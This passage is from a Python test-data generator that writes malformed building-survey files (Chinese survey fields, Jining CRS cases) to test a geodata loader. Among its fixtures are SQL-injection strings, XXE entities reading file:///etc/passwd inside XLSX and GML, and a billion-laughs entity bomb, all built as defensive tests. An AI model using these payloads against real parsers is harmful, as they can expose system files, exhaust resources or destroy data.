"""Generate the corpus of malformed building deliveries (issue 4, item 5).

    python tests/data/make_bad_inputs.py [OUTDIR]      (default: tests/data/bad/)

Every file is written here, from the sample survey (data_samples/jining/buildings: GBK .dbf,
EPSG:4527, Chinese field names), with GDAL (pyogrio), openpyxl or plain file writes — no
hand-made binaries — so its features lie in the Jining profile area unless the case is about
that. ``OUTDIR/MANIFEST.json`` (also :data:`CASES` after :func:`generate`) says, per case,
what is wrong and what the loader must do:

- ``"outcome": "error"``: ``cim load buildings`` fails with ``exit_code``, its message holds
  ``message`` (and ``row N`` / ``field 'F'`` where given); nothing is loaded.
- ``"outcome": "loads"``: the load succeeds with exactly ``read``/``loaded``/``rejected``,
  ``rejected_by_reason`` and ``flagged_by_reason``; ``rejects`` lists rows that must be in
  load_rejects; further optional checks: ``source_crs``, ``encoding``, ``notes`` (fragments),
  ``names`` (source id → stored name), ``keys`` (stored source keys), ``same_place`` (source
  ids whose stored geometry must equal the sample's), ``attrs_keys`` (keys kept in attrs),
  ``stored_2d``.

What is required of a building: a polygonal geometry. Attribute fields are optional: a
source with none loads, each feature keyed by its geometry, with a note in the report.
"""

from __future__ import annotations

import json
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import geopandas as gpd
import numpy as np
import openpyxl
import pyogrio
import pyproj
import shapely

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "data_samples" / "jining" / "buildings" / "buildings_survey.shp"
DEFAULT_OUT = Path(__file__).resolve().parent / "bad"
FIELDS = ["编号", "建筑名称", "建筑用途", "结构", "地上层数", "地下层数", "建筑高度", "建成年代"]
NEEDS_PRJ = "cannot be told from the coordinates"

CASES: list[dict] = []
_WRITERS: list[tuple[dict, Callable[[Path], None]]] = []


def case(name: str, file: str, problem: str, outcome: str, **expect):
    """Register a case: ``file`` (relative to the corpus) and what the loader must do."""
    entry = {"name": name, "file": file, "problem": problem, "outcome": outcome}
    if outcome == "error":
        entry.update({"exit_code": 3, "row": None, "field": None})
    else:
        entry.update({"rejected_by_reason": {}, "flagged_by_reason": {}, "rejects": []})
    entry.update(expect)

    def register(fn: Callable[[Path], None]) -> Callable[[Path], None]:
        _WRITERS.append((entry, fn))
        return fn
    return register


# -- helpers --------------------------------------------------------------------------------
_SAMPLE_CACHE: list[gpd.GeoDataFrame] = []


def sample(n: int = 5) -> gpd.GeoDataFrame:
    """The first ``n`` features of the sample survey (EPSG:4527, zone-prefixed eastings)."""
    if not _SAMPLE_CACHE:
        _SAMPLE_CACHE.append(pyogrio.read_dataframe(SAMPLE, encoding="GBK", max_features=60))
    return _SAMPLE_CACHE[0].head(n).copy().reset_index(drop=True)


def ids(n: int) -> list[str]:
    return list(sample(n)["编号"])


def names(n: int) -> dict[str, str]:
    s = sample(n)
    return dict(zip(s["编号"], s["建筑名称"], strict=True))


def write_shp(gdf: gpd.GeoDataFrame, path: Path, encoding: str = "GBK",
              keep_cpg: bool = False) -> Path:
    """A Shapefile as surveyors deliver it: GBK .dbf, no .cpg, language driver byte 0."""
    pyogrio.write_dataframe(gdf, path, encoding=encoding)
    if not keep_cpg:
        path.with_suffix(".cpg").unlink(missing_ok=True)
        dbf = path.with_suffix(".dbf")
        data = bytearray(dbf.read_bytes())
        data[29] = 0  # no language driver: the loader must tell GBK from the bytes
        dbf.write_bytes(bytes(data))
    return path


def write_geojson(gdf: gpd.GeoDataFrame, path: Path, precision: int = 3) -> Path:
    pyogrio.write_dataframe(gdf, path, driver="GeoJSON",
                            layer_options={"COORDINATE_PRECISION": precision})
    return path


def write_gpkg(gdf: gpd.GeoDataFrame, path: Path, **kw) -> Path:
    pyogrio.write_dataframe(gdf, path, driver="GPKG", layer_options={"SPATIAL_INDEX": "NO"},
                            dataset_options={"METADATA_TABLES": "NO"}, **kw)
    return path


def shift(geoms, dx: float = 0.0, dy: float = 0.0):
    return shapely.transform(np.asarray(geoms), lambda c: c + [dx, dy])


def csv_text(rows: list[list], sep: str = ",") -> str:
    def cell(v) -> str:
        s = "" if v is None else str(v)
        return '"' + s.replace('"', '""') + '"' if any(c in s for c in '",\n\r') else s
    return "".join(sep.join(cell(v) for v in r) + "\r\n" for r in rows)


def survey_rows(gdf: gpd.GeoDataFrame, geometry: bool = True) -> list[list]:
    out = []
    for _, r in gdf.iterrows():
        row = [r[f] for f in FIELDS]
        if geometry:
            row.append(shapely.to_wkt(r.geometry, rounding_precision=3))
        out.append(row)
    return out


# -- encodings ------------------------------------------------------------------------------
@case("gbk_no_cpg", "gbk_no_cpg.shp", "GBK .dbf without .cpg (language driver byte 0)",
      "loads", read=5, loaded=5, rejected=0, encoding="GB18030", names=names(5),
      source_crs="EPSG:4527", same_place=ids(5))
def _gbk(out: Path) -> None:
    write_shp(sample(5), out / "gbk_no_cpg.shp")


_GB18030_NAMES = ["䶮记商行", "𠮷野家大厦", "㐀字楼", "鿏研究所"]


@case("gb18030_no_cpg", "gb18030_no_cpg.shp",
      "GB18030 .dbf without .cpg, names with characters outside GBK (䶮 𠮷 㐀 鿏)",
      "loads", read=4, loaded=4, rejected=0, encoding="GB18030",
      names=dict(zip(ids(4), _GB18030_NAMES, strict=True)))
def _gb18030(out: Path) -> None:
    g = sample(4)
    g["建筑名称"] = _GB18030_NAMES
    write_shp(g, out / "gb18030_no_cpg.shp", encoding="GB18030")


@case("csv_bom_wkt", "csv_bom_wkt.csv",
      "CSV (UTF-8 with BOM, CRLF) with the footprint as WKT, no CRS: the BOM must not stick "
      "to the first field name (编号) and the CRS comes from the zone-prefixed eastings",
      "loads", read=4, loaded=4, rejected=0, source_crs="EPSG:4527", names=names(4),
      keys=[f"csv_bom_wkt:{i}" for i in ids(4)], same_place=ids(4),
      notes=["detected from the easting"], attrs_absent=["WKT", "\ufeff编号"])
def _csv_bom(out: Path) -> None:
    text = csv_text([FIELDS + ["WKT"]] + survey_rows(sample(4)))
    (out / "csv_bom_wkt.csv").write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))


@case("csv_geometry_column", "csv_geometry_column.csv",
      "CSV whose WKT column is named 'geometry' (not GDAL's default 'WKT')",
      "loads", read=3, loaded=3, rejected=0, source_crs="EPSG:4527", same_place=ids(3),
      attrs_absent=["geometry"])
def _csv_geometry(out: Path) -> None:
    text = csv_text([FIELDS + ["geometry"]] + survey_rows(sample(3)))
    (out / "csv_geometry_column.csv").write_text(text, encoding="utf-8")


@case("csv_xy_points", "csv_xy_points.csv",
      "CSV of X/Y survey coordinates (points) and no footprint column",
      "error", message="no geometry column")
def _csv_xy(out: Path) -> None:
    g = sample(3)
    c = shapely.get_coordinates(shapely.centroid(g.geometry.values))
    rows = [r[:-1] + [f"{y:.3f}", f"{x:.3f}"] for r, (x, y) in zip(survey_rows(g), c,
                                                                    strict=True)]
    (out / "csv_xy_points.csv").write_text(csv_text([FIELDS + ["X", "Y"]] + rows),
                                           encoding="utf-8")


@case("csv_gbk", "csv_gbk.csv",
      "CSV saved as GBK (Excel's plain 'CSV' on Chinese Windows), not UTF-8",
      "error", message="not UTF-8")
def _csv_gbk(out: Path) -> None:
    text = csv_text([FIELDS + ["WKT"]] + survey_rows(sample(3)))
    (out / "csv_gbk.csv").write_bytes(text.encode("gbk"))


@case("csv_nul_byte", "csv_nul_byte.csv",
      "CSV with a NUL byte inside a value of the third data row (GDAL would cut the row)",
      "error", message="NUL", row=4)  # line 4: rows as a spreadsheet shows them
def _csv_nul(out: Path) -> None:
    rows = survey_rows(sample(4))
    rows[2][1] = rows[2][1] + "\x00损坏"
    (out / "csv_nul_byte.csv").write_text(csv_text([FIELDS + ["WKT"]] + rows),
                                          encoding="utf-8")


@case("csv_header_only", "csv_header_only.csv", "CSV with a header row and no features",
      "error", message="no features")
def _csv_header(out: Path) -> None:
    (out / "csv_header_only.csv").write_text(csv_text([FIELDS + ["WKT"]]), encoding="utf-8")


@case("lone_dbf", "lone_dbf.dbf", "only the .dbf of a Shapefile (attributes, no geometry)",
      "error", message="no geometry column")
def _lone_dbf(out: Path) -> None:
    tmp = out / "_lone_tmp"
    tmp.mkdir()
    write_shp(sample(3), tmp / "lone_dbf.shp")
    shutil.move(tmp / "lone_dbf.dbf", out / "lone_dbf.dbf")
    shutil.rmtree(tmp)


# -- coordinate reference systems ------------------------------------------------------------
@case("no_prj", "no_prj.shp", "Shapefile without .prj, zone-prefixed eastings (39…)",
      "loads", read=5, loaded=5, rejected=0, source_crs="EPSG:4527",
      notes=["EPSG:4527 detected"], same_place=ids(5))
def _no_prj(out: Path) -> None:
    write_shp(sample(5), out / "no_prj.shp").with_suffix(".prj").unlink()


@case("garbage_prj", "garbage_prj.shp", "a .prj that is not WKT at all",
      "error", message="garbage_prj.prj cannot be read as a CRS")
def _garbage_prj(out: Path) -> None:
    p = write_shp(sample(3), out / "garbage_prj.shp")
    p.with_suffix(".prj").write_text('PROJCS["CGCS2000 / 3-degree GK zone 39", 这不是WKT',
                                     encoding="utf-8")


@case("local_crs_prj", "local_crs_prj.shp",
      "a .prj naming a local engineering CRS (城市独立坐标系) with small local coordinates: "
      "no transformation to the storage CRS exists",
      "error", message=NEEDS_PRJ)
def _local_prj(out: Path) -> None:
    g = sample(3)
    g["geometry"] = shift(g.geometry.values, -39_400_000, -3_900_000)
    p = write_shp(g, out / "local_crs_prj.shp")
    p.with_suffix(".prj").write_text(
        'LOCAL_CS["Jining city independent grid",LOCAL_DATUM["local",32767],'
        'UNIT["metre",1],AXIS["X",EAST],AXIS["Y",NORTH]]')


@case("custom_name_prj", "custom_name_prj.shp",
      "a .prj with the right GK zone-39 parameters under a name no EPSG entry has",
      "loads", read=4, loaded=4, rejected=0, same_place=ids(4))
def _custom_prj(out: Path) -> None:
    p = write_shp(sample(4), out / "custom_name_prj.shp")
    wkt = pyproj.CRS.from_epsg(4527).to_wkt("WKT1_ESRI").replace(
        "CGCS2000_3_Degree_GK_Zone_39", "Jining_Survey_GK39")
    p.with_suffix(".prj").write_text(wkt)


@case("swapped_xy", "swapped_xy.shp", "X and Y exchanged (northing first), EPSG:4527 .prj",
      "error", message="swapped")
def _swapped(out: Path) -> None:
    g = sample(4)
    g["geometry"] = shapely.transform(g.geometry.values, lambda c: c[:, ::-1])
    write_shp(g, out / "swapped_xy.shp")


@case("no_prefix_declared_4527", "no_prefix_declared_4527.shp",
      "the .prj says EPSG:4527 (zone-prefixed) but the eastings lack the 39 prefix",
      "error", message="EPSG:4548")
def _no_prefix(out: Path) -> None:
    g = sample(4)
    g["geometry"] = shift(g.geometry.values, -39_000_000)
    write_shp(g, out / "no_prefix_declared_4527.shp")


@case("central_meridian_4548", "central_meridian_4548.shp",
      "central-meridian eastings (no zone prefix) with an EPSG:4548 .prj: must land exactly "
      "where the zone-prefixed sample lies",
      "loads", read=5, loaded=5, rejected=0, source_crs="EPSG:4548", same_place=ids(5))
def _cm4548(out: Path) -> None:
    g = sample(5)
    g["geometry"] = shift(g.geometry.values, -39_000_000)
    g = g.set_crs("EPSG:4548", allow_override=True)
    write_shp(g, out / "central_meridian_4548.shp")


@case("central_meridian_no_prj", "central_meridian_no_prj.shp",
      "central-meridian eastings and no .prj: the meridian comes from the profile",
      "loads", read=4, loaded=4, rejected=0, source_crs="EPSG:4548",
      notes=["EPSG:4548 detected"], same_place=ids(4))
def _cm_noprj(out: Path) -> None:
    g = sample(4)
    g["geometry"] = shift(g.geometry.values, -39_000_000)
    write_shp(g, out / "central_meridian_no_prj.shp").with_suffix(".prj").unlink()


@case("mixed_zones_no_prj", "mixed_zones_no_prj.shp",
      "no .prj and eastings with two different zone prefixes (39… and 40…)",
      "error", message="several Gauss-Krüger zones")
def _mixed_zones(out: Path) -> None:
    g = sample(4)
    geoms = g.geometry.values.copy()
    geoms[2:] = shift(geoms[2:], 1_000_000)
    g["geometry"] = geoms
    write_shp(g, out / "mixed_zones_no_prj.shp").with_suffix(".prj").unlink()


@case("projected_geojson_no_crs", "projected_geojson_no_crs.geojson",
      "GeoJSON without a crs member (GDAL assumes WGS 84) holding zone-prefixed eastings",
      "loads", read=4, loaded=4, rejected=0, source_crs="EPSG:4527", same_place=ids(4),
      notes=["not degrees"])
def _geojson_nocrs(out: Path) -> None:
    g = sample(4)
    feats = [{"type": "Feature",
              "properties": {f: (v.item() if hasattr(v, "item") else v)
                             for f, v in r.drop("geometry").items()},
              "geometry": json.loads(shapely.to_geojson(r.geometry))}
             for _, r in g.iterrows()]
    (out / "projected_geojson_no_crs.geojson").write_text(
        json.dumps({"type": "FeatureCollection", "features": feats}, ensure_ascii=False),
        encoding="utf-8")


# -- area -----------------------------------------------------------------------------------
@case("outside_area", "outside_area.geojson",
      "every footprint in Beijing (EPSG:4490), far outside the Jining profile",
      "error", message="outside the city profile's area")
def _outside(out: Path) -> None:
    g = sample(4).to_crs("EPSG:4490")
    g["geometry"] = g.geometry.translate(xoff=-0.2, yoff=4.5)
    write_geojson(g, out / "outside_area.geojson", precision=8)


@case("partly_outside", "partly_outside.geojson",
      "two of five footprints 60 km east of the city (outside every district)",
      "loads", read=5, loaded=3, rejected=2, rejected_by_reason={"outside_area": 2},
      rejects=[{"row": 2, "reason": "outside_area"}, {"row": 5, "reason": "outside_area"}])
def _partly(out: Path) -> None:
    g = sample(5)
    geoms = g.geometry.values.copy()
    geoms[[1, 4]] = shift(geoms[[1, 4]], 60_000)
    g["geometry"] = geoms
    write_geojson(g, out / "partly_outside.geojson")


# -- geometry -------------------------------------------------------------------------------
def _with_bad_coord(geom, value: float, vertex: int, axis: int):
    c = shapely.get_coordinates(geom)
    c[vertex, axis] = value
    with np.errstate(invalid="ignore"):
        return shapely.Polygon(c)


@case("nan_inf_coords", "nan_inf_coords.gpkg",
      "a NaN easting in row 2 and an infinite northing in row 4",
      "loads", read=5, loaded=3, rejected=2, rejected_by_reason={"invalid_coordinates": 2},
      rejects=[{"row": 2, "reason": "invalid_coordinates", "message": "not finite"},
               {"row": 4, "reason": "invalid_coordinates", "message": "not finite"}])
def _nan(out: Path) -> None:
    g = sample(5)
    geoms = g.geometry.values.copy()
    geoms[1] = _with_bad_coord(geoms[1], np.nan, 1, 0)
    geoms[3] = _with_bad_coord(geoms[3], np.inf, 2, 1)
    g["geometry"] = geoms
    write_gpkg(g, out / "nan_inf_coords.gpkg")


@case("empty_null_geoms", "empty_null_geoms.geojson",
      "row 2 has a null geometry, row 4 an empty polygon",
      "loads", read=5, loaded=3, rejected=2, rejected_by_reason={"empty_geometry": 2},
      rejects=[{"row": 2, "reason": "empty_geometry", "message": "null"},
               {"row": 4, "reason": "empty_geometry", "message": "empty"}])
def _empty(out: Path) -> None:
    g = sample(5)
    geoms = g.geometry.values.copy()
    geoms[1] = None
    geoms[3] = shapely.Polygon()
    g["geometry"] = geoms
    write_geojson(g, out / "empty_null_geoms.geojson")


@case("null_shapes", "null_shapes.shp", "a Shapefile with a null shape record in row 3",
      "loads", read=4, loaded=3, rejected=1, rejected_by_reason={"empty_geometry": 1},
      rejects=[{"row": 3, "reason": "empty_geometry"}])
def _null_shp(out: Path) -> None:
    g = sample(4)
    geoms = g.geometry.values.copy()
    geoms[2] = None
    g["geometry"] = geoms
    write_shp(g, out / "null_shapes.shp")


@case("self_intersecting", "self_intersecting.geojson",
      "row 2 is a bow-tie (repaired with make_valid, flagged); row 4 has all its vertices "
      "on one line (zero area: cannot be repaired into a footprint)",
      "loads", read=5, loaded=4, rejected=1, rejected_by_reason={"invalid_geometry": 1},
      flagged_by_reason={"geometry_repaired": 1},
      rejects=[{"row": 4, "reason": "invalid_geometry", "message": "cannot be repaired"}],
      flags={ids(5)[1]: ["geometry_repaired"]})
def _selfx(out: Path) -> None:
    g = sample(5)
    geoms = g.geometry.values.copy()
    c = shapely.get_coordinates(geoms[1])
    geoms[1] = shapely.Polygon([c[0], c[2], c[1], c[3], c[0]])
    x0, y0 = shapely.get_coordinates(geoms[3])[0]
    geoms[3] = shapely.Polygon([(x0, y0), (x0 + 10, y0 + 10), (x0 + 20, y0 + 20),
                                (x0 + 5, y0 + 5), (x0, y0)])
    g["geometry"] = geoms
    write_geojson(g, out / "self_intersecting.geojson")


@case("mixed_types_geojson", "mixed_types_geojson.geojson",
      "GeoJSON mixing a point (row 2) and a line (row 4) among polygons, a multipolygon "
      "(row 5) and a collection of a polygon and a point (row 6: the polygon loads, the point is "
      "left out and flagged)",
      "loads", read=6, loaded=4, rejected=2, rejected_by_reason={"wrong_geometry_type": 2},
      flagged_by_reason={"collection_parts_dropped": 1},
      rejects=[{"row": 2, "reason": "wrong_geometry_type", "message": "Point"},
               {"row": 4, "reason": "wrong_geometry_type", "message": "LineString"}])
def _mixed_geojson(out: Path) -> None:
    g = sample(6)
    geoms = g.geometry.values.copy()
    geoms[1] = shapely.centroid(geoms[1])
    geoms[3] = shapely.LineString(shapely.get_coordinates(geoms[3])[:3])
    geoms[4] = shapely.MultiPolygon([geoms[4]])
    geoms[5] = shapely.GeometryCollection([geoms[5], shapely.centroid(geoms[5])])
    g["geometry"] = geoms
    write_geojson(g, out / "mixed_types_geojson.geojson")


@case("mixed_types_gpkg", "mixed_types_gpkg.gpkg",
      "GeoPackage layer of type GEOMETRY with points in rows 3 and 5 among polygons",
      "loads", read=5, loaded=3, rejected=2, rejected_by_reason={"wrong_geometry_type": 2},
      rejects=[{"row": 3, "reason": "wrong_geometry_type", "message": "Point"},
               {"row": 5, "reason": "wrong_geometry_type", "message": "Point"}])
def _mixed_gpkg(out: Path) -> None:
    g = sample(5)
    geoms = g.geometry.values.copy()
    geoms[[2, 4]] = shapely.centroid(geoms[[2, 4]])
    g["geometry"] = geoms
    write_gpkg(g, out / "mixed_types_gpkg.gpkg", geometry_type="Unknown")


@case("mixed_2d_3d", "mixed_2d_3d.geojson",
      "rows 2 and 4 carry Z values (35.2 m), the others not: stored in 2D, the two flagged",
      "loads", read=4, loaded=4, rejected=0, flagged_by_reason={"z_dropped": 2},
      stored_2d=True, same_place=ids(4))
def _mixed_z(out: Path) -> None:
    g = sample(4)
    geoms = g.geometry.values.copy()
    for i in (1, 3):
        c = shapely.get_coordinates(geoms[i])
        geoms[i] = shapely.Polygon(np.column_stack([c, np.full(len(c), 35.2)]))
    g["geometry"] = geoms
    write_geojson(g, out / "mixed_2d_3d.geojson")


# -- attributes -----------------------------------------------------------------------------
@case("duplicate_ids", "duplicate_ids.shp", "row 4 repeats the 编号 of row 2",
      "loads", read=5, loaded=4, rejected=1, rejected_by_reason={"duplicate_source_id": 1},
      rejects=[{"row": 4, "reason": "duplicate_source_id", "message": ids(2)[1]}])
def _dups(out: Path) -> None:
    g = sample(5)
    g.loc[3, "编号"] = g.loc[1, "编号"]
    write_shp(g, out / "duplicate_ids.shp")


@case("no_attributes", "no_attributes.geojson",
      "footprints with no attribute fields at all (no id, no use): they load, keyed by "
      "geometry, with a note",
      "loads", read=3, loaded=3, rejected=0, flagged_by_reason={"use_missing": 3},
      notes=["no attribute field was recognised"], key_prefix="no_attributes:g",
      same_place=None)
def _no_attrs(out: Path) -> None:
    g = gpd.GeoDataFrame(geometry=sample(3).geometry.values, crs="EPSG:4527")
    write_geojson(g, out / "no_attributes.geojson")


@case("text_in_numeric", "text_in_numeric.shp",
      "'十二层' in the floors field (row 3) and '约30米' in the height field (row 5) of a "
      "text-typed .dbf; '45.5米' (row 1) is a valid height",
      "loads", read=5, loaded=3, rejected=2, rejected_by_reason={"bad_value": 2},
      rejects=[{"row": 3, "reason": "bad_value", "field": "地上层数", "message": "十二层"},
               {"row": 5, "reason": "bad_value", "field": "建筑高度", "message": "约30米"}])
def _text_numeric(out: Path) -> None:
    g = sample(5)
    g["地上层数"] = g["地上层数"].astype(str).astype(object)
    g["建筑高度"] = g["建筑高度"].astype(str).astype(object)
    g.loc[2, "地上层数"] = "十二层"
    g.loc[4, "建筑高度"] = "约30米"
    g.loc[0, "建筑高度"] = "45.5米"
    write_shp(g, out / "text_in_numeric.shp")


_HUGE = "巨" * 100_000  # 300 kB of UTF-8; 100,000 characters


@case("huge_attribute", "huge_attribute.geojson",
      "a 100,000-character 建筑名称 (row 2) and a 100,000-character unmapped 备注 (row 4)",
      "loads", read=4, loaded=2, rejected=2, rejected_by_reason={"bad_value": 2},
      rejects=[{"row": 2, "reason": "bad_value", "field": "建筑名称", "message": "100,000"},
               {"row": 4, "reason": "bad_value", "field": "备注", "message": "100,000"}])
def _huge(out: Path) -> None:
    g = sample(4)
    g["备注"] = ["", "", "", ""]
    g.loc[1, "建筑名称"] = _HUGE[:100_000]
    g.loc[3, "备注"] = "x" * 100_000
    write_geojson(g, out / "huge_attribute.geojson")


@case("sql_column_names", "sql_column_names.gpkg",
      "fields named 'name\"; DROP TABLE buildings; --' and 'select', and a name value "
      "\"'); DROP TABLE buildings; --\": they load, stored verbatim in attrs",
      "loads", read=3, loaded=3, rejected=0,
      attrs_keys=['name"; DROP TABLE buildings; --', "select"],
      names={ids(3)[0]: "'); DROP TABLE buildings; --"})
def _sqlnames(out: Path) -> None:
    g = sample(3)
    g['name"; DROP TABLE buildings; --'] = ["a", "b", "c"]
    g["select"] = ["1", "2", "3"]
    g.loc[0, "建筑名称"] = "'); DROP TABLE buildings; --"
    write_gpkg(g, out / "sql_column_names.gpkg")


@case("non_ascii_file_name", "建筑物普查.shp", "a GBK Shapefile with a Chinese file name",
      "loads", read=3, loaded=3, rejected=0, keys=[f"建筑物普查:{i}" for i in ids(3)],
      names=names(3))
def _chinese_name(out: Path) -> None:
    write_shp(sample(3), out / "建筑物普查.shp")


# -- broken files ---------------------------------------------------------------------------
@case("truncated_shp", "truncated_shp.shp", "the .shp cut off in the middle of its shapes",
      "error", message="truncated")
def _trunc_shp(out: Path) -> None:
    p = write_shp(sample(5), out / "truncated_shp.shp")
    data = p.read_bytes()
    p.write_bytes(data[: int(len(data) * 0.6)])


@case("truncated_dbf", "truncated_dbf.shp", "the .dbf cut off in its third record",
      "error", message="truncated_dbf.dbf is truncated", row=3)
def _trunc_dbf(out: Path) -> None:
    p = write_shp(sample(5), out / "truncated_dbf.shp")
    dbf = p.with_suffix(".dbf")
    data = dbf.read_bytes()
    header_len = int.from_bytes(data[8:10], "little")
    record_len = int.from_bytes(data[10:12], "little")
    dbf.write_bytes(data[: header_len + 2 * record_len + record_len // 2])


@case("count_mismatch", "count_mismatch.shp",
      "the .dbf (3 records) belongs to another delivery than the .shp/.shx (4 shapes)",
      "error", message="disagree")
def _mismatch(out: Path) -> None:
    write_shp(sample(4), out / "count_mismatch.shp")
    tmp = out / "_mismatch_tmp"
    tmp.mkdir()
    write_shp(sample(3), tmp / "count_mismatch.shp")
    shutil.copy(tmp / "count_mismatch.dbf", out / "count_mismatch.dbf")
    shutil.rmtree(tmp)


@case("zero_byte", "zero_byte.shp", "a 0-byte .shp", "error", message="empty (0 bytes)")
def _zero(out: Path) -> None:
    (out / "zero_byte.shp").write_bytes(b"")


@case("zero_byte_dbf", "zero_byte_dbf.shp", "a valid .shp/.shx with a 0-byte .dbf",
      "error", message="zero_byte_dbf.dbf is truncated")
def _zero_dbf(out: Path) -> None:
    p = write_shp(sample(3), out / "zero_byte_dbf.shp")
    p.with_suffix(".dbf").write_bytes(b"")


@case("missing_path", "does_not_exist.shp", "a path that does not exist (never generated)",
      "error", message="file not found", absent=True)
def _missing(out: Path) -> None:
    pass


@case("directory", "a_directory.shp", "a directory (holding a Shapefile) instead of a file",
      "error", message="is a directory")
def _dir(out: Path) -> None:
    d = out / "a_directory.shp"
    d.mkdir()
    write_shp(sample(2), d / "inside.shp")


@case("no_shx", "no_shx.shp", "a .shp and .dbf without their .shx", "error",
      message="no .shx")
def _no_shx(out: Path) -> None:
    write_shp(sample(3), out / "no_shx.shp").with_suffix(".shx").unlink()


@case("no_dbf", "no_dbf.shp", "a .shp and .shx without their .dbf", "error",
      message="no .dbf")
def _no_dbf(out: Path) -> None:
    write_shp(sample(3), out / "no_dbf.shp").with_suffix(".dbf").unlink()


@case("empty_layer", "empty_layer.shp", "a valid Shapefile with no features",
      "error", message="no features")
def _empty_layer(out: Path) -> None:
    pyogrio.write_dataframe(sample(1).iloc[:0], out / "empty_layer.shp", encoding="GBK",
                            geometry_type="Polygon")
    (out / "empty_layer.cpg").unlink(missing_ok=True)


@case("not_json", "not_json.geojson", "a .geojson holding an HTML error page, not JSON",
      "error", message="not recognized as being in a supported file format")
def _not_json(out: Path) -> None:
    (out / "not_json.geojson").write_text(
        "<html><body><h1>502 Bad Gateway</h1>建筑物数据下载失败</body></html>\n",
        encoding="utf-8")


@case("truncated_geojson", "truncated_geojson.geojson", "a GeoJSON cut off mid-feature",
      "error", message="GDAL cannot read it")
def _trunc_json(out: Path) -> None:
    p = write_geojson(sample(4), out / "truncated_geojson.geojson")
    text = p.read_text(encoding="utf-8")
    p.write_text(text[: len(text) * 2 // 3], encoding="utf-8")


# -- spreadsheets ---------------------------------------------------------------------------
def _xlsx_rows(g: gpd.GeoDataFrame) -> list[list]:
    return [[r["编号"], r["建筑名称"], int(r["地上层数"]), int(r["地下层数"]),
             float(r["建筑高度"]), shapely.to_wkt(r.geometry, rounding_precision=3)]
            for _, r in g.iterrows()]


@case("xlsx_merged_header", "xlsx_merged_header.xlsx",
      "Excel sheet whose header groups 地上/地下 under a merged '层数' cell (C1:D1)",
      "error", message="merged cells (C1:D1, A1:A2", row=1, field="层数")
def _xlsx_merged(out: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "建筑物"
    ws.append(["编号", "建筑名称", "层数", None, "建筑高度", "WKT"])
    ws.append([None, None, "地上", "地下", None, None])
    for r in _xlsx_rows(sample(3)):
        ws.append(r)
    for ref in ("A1:A2", "B1:B2", "C1:D1", "E1:E2", "F1:F2"):
        ws.merge_cells(ref)
    wb.save(out / "xlsx_merged_header.xlsx")


@case("xlsx_two_row_header", "xlsx_two_row_header.xlsx",
      "Excel sheet with a second header row of English names and units (no merged cells)",
      "error", message="second header row", row=2, field="floors (层)")
def _xlsx_two_rows(out: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "建筑名称", "地上层数", "地下层数", "建筑高度", "WKT"])
    ws.append(["id", "name", "floors (层)", "basement (层)", "height (m)", "footprint"])
    for r in _xlsx_rows(sample(3)):
        ws.append(r)
    wb.save(out / "xlsx_two_row_header.xlsx")


@case("xlsx_no_geometry", "xlsx_no_geometry.xlsx",
      "a clean Excel sheet with WKT in a column: GDAL's XLSX driver reads no geometry",
      "error", message="CSV UTF-8")
def _xlsx_clean(out: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "建筑名称", "地上层数", "地下层数", "建筑高度", "WKT"])
    for r in _xlsx_rows(sample(3)):
        ws.append(r)
    wb.save(out / "xlsx_no_geometry.xlsx")


@case("xlsx_xxe", "xlsx_xxe.xlsx",
      "an .xlsx whose sheet XML declares an external entity (XXE inside the zip)",
      "error", message="xl/worksheets/sheet1.xml")
def _xlsx_xxe(out: Path) -> None:
    tmp = out / "_xxe_tmp.xlsx"
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["编号", "WKT"])
    ws.append(["&xxe;", "POINT (0 0)"])
    wb.save(tmp)
    with zipfile.ZipFile(tmp) as src, zipfile.ZipFile(out / "xlsx_xxe.xlsx", "w",
                                                       zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = src.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode("utf-8")
                doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
                if text.startswith("<?xml"):
                    head, rest = text.split("?>", 1)
                    text = head + "?>\n" + doctype + rest
                else:
                    text = doctype + "\n" + text
                data = text.encode("utf-8")
            dst.writestr(info, data)
    tmp.unlink()


# -- XML ------------------------------------------------------------------------------------
def _gml_features(g: gpd.GeoDataFrame) -> str:
    parts = []
    for i, r in g.iterrows():
        pos = " ".join(f"{x:.3f} {y:.3f}" for x, y in shapely.get_coordinates(r.geometry))
        parts.append(
            f'  <ogr:featureMember><ogr:b gml:id="b.{i}">'
            f'<ogr:geometryProperty><gml:Polygon srsName="EPSG:4527"><gml:exterior>'
            f"<gml:LinearRing><gml:posList>{pos}</gml:posList></gml:LinearRing></gml:exterior>"
            f"</gml:Polygon></ogr:geometryProperty>"
            f"<ogr:编号>{r['编号']}</ogr:编号><ogr:建筑名称>{{NAME{i}}}</ogr:建筑名称>"
            f"</ogr:b></ogr:featureMember>\n")
    return "".join(parts)


_GML_HEAD = ('<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" '
             'xmlns:gml="http://www.opengis.net/gml">\n')


@case("gml_xxe", "gml_xxe.gml",
      "GML whose DOCTYPE declares an external entity (file:///etc/passwd) used in a name",
      "error", message="XXE")
def _gml_xxe(out: Path) -> None:
    body = _gml_features(sample(2)).replace("{NAME0}", "&xxe;").replace("{NAME1}", "b")
    (out / "gml_xxe.gml").write_text(
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!DOCTYPE ogr:FeatureCollection [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
        + _GML_HEAD + body + "</ogr:FeatureCollection>\n", encoding="utf-8")


@case("gml_billion_laughs", "gml_billion_laughs.gml",
      "GML with nested entity declarations (billion laughs: 10^9 'lol's when expanded)",
      "error", message="billion laughs")
def _gml_laughs(out: Path) -> None:
    ents = ['  <!ENTITY lol "lol">']
    for k in range(1, 10):
        ents.append(f'  <!ENTITY lol{k} "' + f"&lol{k - 1 if k > 1 else ''};" * 10 + '">')
    body = _gml_features(sample(2)).replace("{NAME0}", "&lol9;").replace("{NAME1}", "b")
    (out / "gml_billion_laughs.gml").write_text(
        '<?xml version="1.0"?>\n<!-- a comment before the DOCTYPE -->\n'
